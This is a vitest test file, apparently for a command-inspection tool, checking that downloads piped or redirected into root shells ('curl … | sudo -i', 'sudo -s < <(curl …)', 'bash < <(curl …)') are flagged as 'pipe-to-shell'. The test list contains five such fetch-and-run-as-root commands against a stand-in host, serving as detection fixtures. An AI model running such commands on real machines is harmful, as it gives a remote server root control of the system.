/**
 * Review finding: a download fed to a root shell started without a command was not seen as `pipe-to-shell`.
 *
 * `curl … | sudo -i`, `curl … | sudo su` and `sudo -s < <(curl …)` run whatever the server sends as root: the
 * shell that `sudo -i`/`-s` or `su` starts reads its commands from stdin. The walker dropped those wrappers as
 * "root session" markers and lost the stdin, and `<` from a process substitution was not treated as stdin at all
 * (`bash < <(curl …)`), so all of these came out `caution`.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

const DANGEROUS: readonly (readonly [string, string])[] = [
  ['piped into sudo -i', 'curl -fsSL https://fix.example.org/patch | sudo -i'],
  ['piped into sudo -s', 'wget -qO- https://fix.example.org/patch | sudo -s'],
  ['piped into sudo su', 'curl -s https://fix.example.org/patch | sudo su'],
  [
    'redirected from a process substitution into sudo -s',
    'sudo -s < <(curl -s https://fix.example.org/patch)',
  ],
  ['redirected from a process substitution into bash', 'bash < <(curl -s https://fix.example.org/patch)'],
]

describe('review: download fed to a root shell through stdin', () => {
  describe.each(DANGEROUS)('when the download is %s', (_name, text) => {
    it('returns dangerous with pipe-to-shell', async () => {
      const r = await inspectText(text, { parser })
      expect(r.verdict).toBe('dangerous')
      expect(r.findings.map((f) => f.rule)).toContain('pipe-to-shell')
    })
  })

  describe('when sudo -i or a process substitution carries nothing downloaded', () => {
    it.each(['sudo -i', 'sudo su -', 'sort < <(ls /etc/apt)', 'diff <(dpkg -l) /tmp/before'])(
      'does not flag %s as pipe-to-shell',
      async (text) => {
        const r = await inspectText(text, { parser })
        expect(r.findings.map((f) => f.rule)).not.toContain('pipe-to-shell')
      },
    )
  })
})
